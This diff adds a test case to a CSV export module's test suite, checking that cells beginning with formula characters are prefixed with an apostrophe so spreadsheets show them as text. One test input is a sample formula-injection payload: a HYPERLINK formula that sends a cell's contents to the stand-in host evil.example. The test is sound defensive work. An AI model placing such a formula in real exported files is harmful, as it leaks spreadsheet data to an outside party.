@@ -31,4 +31,25 @@ describe('csv', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(new TextDecoder().decode(bytes.slice(3))).toBe('Имя\r\nАнна\r\n');
   });
+
+  it('writes a text cell a spreadsheet would run as a formula as text, and numbers as numbers', () => {
+    const attack = '=HYPERLINK("http://evil.example/?"&A2,"Нажмите")';
+    expect(
+      toCsv(
+        ['a', 'b'],
+        [
+          [attack, -12.5],
+          ['+7 999', '@SUM(A1)'],
+          ['-1+2', ' =1+1'],
+          ['\tтаб', 'Обычный - текст'],
+        ],
+      ),
+    ).toBe(
+      'a,b\r\n' +
+        `"'=HYPERLINK(""http://evil.example/?""&A2,""Нажмите"")",-12.5\r\n` +
+        "'+7 999,'@SUM(A1)\r\n" +
+        "'-1+2,' =1+1\r\n" +
+        "'\tтаб,Обычный - текст\r\n",
+    );
+  });
 });
